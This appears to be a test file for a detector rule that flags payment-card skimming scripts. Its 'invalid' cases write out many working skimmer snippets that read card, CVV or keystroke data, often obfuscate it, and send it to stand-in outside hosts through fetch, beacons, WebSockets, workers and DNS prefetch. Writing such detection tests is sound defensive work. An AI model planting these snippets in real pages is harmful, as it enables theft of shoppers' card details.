import rule from './skimmer.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: 'card-formatting handler on the card field (reads this.value, sends nothing)', code: "$('#cc-number').on('input', function () { this.value = this.value.replace(/\\D/g, '').replace(/(\\d{4})(?=\\d)/g, '$1 '); });" },
    { name: 'field validation posted to the own site', code: "document.querySelectorAll('input[name^=\"payment\"]').forEach(function (el) { el.addEventListener('blur', function () { fetch('/checkout/validate', { method: 'POST', body: this.name + '=' + this.value }); }); });" },
    // card formatter (cleave/payment style): reads and rewrites the field, never sends
    "var el = document.getElementById('cc-number'); el.addEventListener('input', function(){ el.value = el.value.replace(/\\D/g,'').replace(/(\\d{4})/g,'$1 ').trim(); });",
    // honest checkout posting to its own site: low at most
    "var n = document.getElementById('cc-number').value; fetch('/checkout/pay', {method:'POST', body: JSON.stringify({n: n})});",
    // analytics beacon with no payment data
    "new Image().src = 'https://stats.example/p.gif?u=' + encodeURIComponent(location.href);",
    // validation plugin: sweeps inputs, sends nothing
    "document.querySelectorAll('input, select').forEach(function(i){ if (!i.value) i.classList.add('error'); });",
    // reads the card, sends something unrelated
    "var cc = document.getElementById('card_number').value; var ok = cc.length > 12; fetch('https://api.example/ping', {method:'POST', body: 'ok'});",
    // jQuery ajax with serialised form to a computed URL: inventory only
    "$('form').on('submit', function(){ $.ajax({ url: this.action, data: $(this).serialize(), type: 'POST' }); });",
    // a worker loaded from the page's own script URL (encryption, compression): not a way out
    { name: 'card posted to a same-origin worker script', code: "var w = new Worker('/js/encrypt-worker.js'); document.getElementById('cc-number').addEventListener('change', function () { w.postMessage(this.value); });" },
    { name: 'emit on an event emitter that is no socket', code: "var bus = new EventEmitter(); document.querySelectorAll('input').forEach(function (el) { el.addEventListener('input', function () { bus.emit('field', { n: el.name, v: el.value }); }); });" },
    { name: 'Function.prototype.call of a formatter, nothing sent', code: "function fmt(v) { return v.replace(/\\D/g, ''); } document.getElementById('cc-number').addEventListener('input', function () { this.value = fmt.call(null, this.value); });" },
    { name: 'card-fragment selector posted to the own site through a Request', code: "var v = document.querySelector('input[name*=\"card\"]').value; fetch(new Request('/checkout/validate', { method: 'POST', body: v }));" },
  ],
  invalid: [
    { name: 'card hex-encoded by an own charCodeAt/toString(16) loop into an image hostname', code: "function hx(s) { var o = ''; for (var i = 0; i < s.length; i++) o += s.charCodeAt(i).toString(16); return o; } document.querySelector('form').addEventListener('submit', function () { new Image().src = 'https://' + hx(document.querySelector('[autocomplete=\"cc-number\"]').value) + '.cdn-img-static.example/p.png'; });", messageIds: ['skim'], severity: 'critical' },
    { name: 'IIFE parameters aliasing window and document', code: "(function (w, d) { d.addEventListener('change', function () { var n = d.querySelector('#card-number'); if (n && n.value.length > 14) w.fetch('https://api.js-stats.example/v1', { method: 'POST', mode: 'no-cors', body: n.value }); }); })(window, document);", messageIds: ['skim'], severity: 'critical' },
    { name: 'delegated jQuery change handler on payment fields, staged in localStorage, sent base64 on load', code: "(function($){ $(document).on('change', 'input[name^=\"payment\"]', function(){ localStorage.setItem('pmt_' + this.name, this.value); }); $(window).on('load', function(){ var o = {}; for (var k in localStorage) if (k.indexOf('pmt_') === 0) o[k] = localStorage.getItem(k); $.post('https://cdn-jquery-ui.example/t', { d: btoa(JSON.stringify(o)) }); }); })(jQuery);", messageIds: ['skim'], severity: 'critical' },
    { name: 'blur handlers bound to each card field read the event target', code: "['#cc-number', '#cc-cvv'].forEach(function (s) { document.querySelector(s).addEventListener('blur', function (e) { new Image().src = 'https://img-cdn-static.example/p.gif?' + btoa(e.target.value); }); });", messageIds: ['skim'] },
    { name: 'image beacon of base64 sweep', code: "var d = {}; document.querySelectorAll('input').forEach(function(i){ d[i.name] = i.value; }); new Image().src = 'https://cdn-js.example/p?d=' + btoa(JSON.stringify(d));", messageIds: ['skim'], severity: 'critical' },
    { name: 'XHR of card fields by id', code: "document.getElementById('pay').onclick = function(){ var x = new XMLHttpRequest(); x.open('POST','https://evil.example/g'); x.send(document.getElementById('cardNumber').value + document.getElementById('cvv').value); };", messageIds: ['skim'], severity: 'critical' },
    { name: 'hidden destination', code: "var u = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'); navigator.sendBeacon(u, document.querySelector('#cc-number').value);", messageIds: ['skim'], severity: 'critical' },
    { name: 'through a helper function', code: "function send(p){ fetch('https://evil.example/c', {method:'POST', body:p}); } function grab(){ return document.getElementById('cc_cvv').value; } send(grab());", messageIds: ['skim'], severity: 'critical' },
    { name: 'websocket', code: "var ws = new WebSocket('wss://ws.example/s'); document.getElementById('card-number').addEventListener('change', function(e){ ws.send(e.target.value); });", messageIds: ['skim'], severity: 'critical' },
    { name: 'fetch reached through .apply on a saved reference', code: "var _f = window.fetch; function s(p) { return _f.apply(window, ['https://img-cdn-static.example/p.gif', { method: 'POST', body: p, keepalive: true }]); } s(btoa(document.getElementById('cc_number').value));", messageIds: ['skim'], severity: 'critical' },
    { name: 'fetch of a Request object built for an outside host', code: "document.addEventListener('click', function () { var req = new Request('https://api.analytics-tag.example/v1/e', { method: 'POST', body: document.querySelector('#card-number').value }); fetch(req); });", messageIds: ['skim'], severity: 'critical' },
    { name: 'socket.io emit of the card field', code: "var sock = io('https://live-chat-widget.example'); document.getElementById('cc-number').addEventListener('blur', function () { sock.emit('typing', { v: this.value }); });", messageIds: ['skim'], severity: 'critical' },
    { name: 'card handed to a worker built from a Blob that posts it out', code: "var code = \"onmessage=function(e){fetch('https://stat-collect.example/c',{method:'POST',body:e.data})}\"; var w = new Worker(URL.createObjectURL(new Blob([code]))); document.addEventListener('change', function () { w.postMessage(document.getElementById('cc_number').value); });", messageIds: ['skim'], severity: 'critical' },
    { name: 'window-level keylogger buffered and beaconed', code: "var buf = ''; window.addEventListener('keyup', function (e) { buf += e.key; }, true); setInterval(function () { if (buf.length > 12) { navigator.sendBeacon('https://metrics.cdn-js.example/k', btoa(buf)); buf = ''; } }, 5000);", messageIds: ['skim'], severity: 'critical' },
    { name: 'jQuery delegated handler reading $(this).val()', code: "var data = {}; $(document).on('change', 'input, select', function () { data[$(this).attr('name')] = $(this).val(); }); $(document).on('click', '#place-order', function () { $.ajax({ url: 'https://cdn-bootstrapjs.example/api', type: 'POST', data: { d: btoa(JSON.stringify(data)) } }); });", messageIds: ['skim'], severity: 'critical' },
    { name: 'card fields picked by autocomplete="cc-*" fragment', code: "var p = [].map.call(document.querySelectorAll('input[autocomplete^=\"cc-\"]'), function (f) { return f.value; }).join('|'); navigator.sendBeacon('https://cdn.jsassets.example/c', p);", messageIds: ['skim'], severity: 'critical' },
    { name: 'card number in a computed DNS-prefetch hostname', code: "var n = document.querySelector('input[name=\"cardnumber\"]').value; var l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + n + '.telemetry-edge.example'; document.head.appendChild(l);", messageIds: ['skim'], severity: 'high' },
    { name: 'computed destination', code: "function go(u){ var v = document.getElementById('cc-number').value; fetch(u, {method:'POST', body:v}); }", messageIds: ['skim'], severity: 'high' },
  ],
});
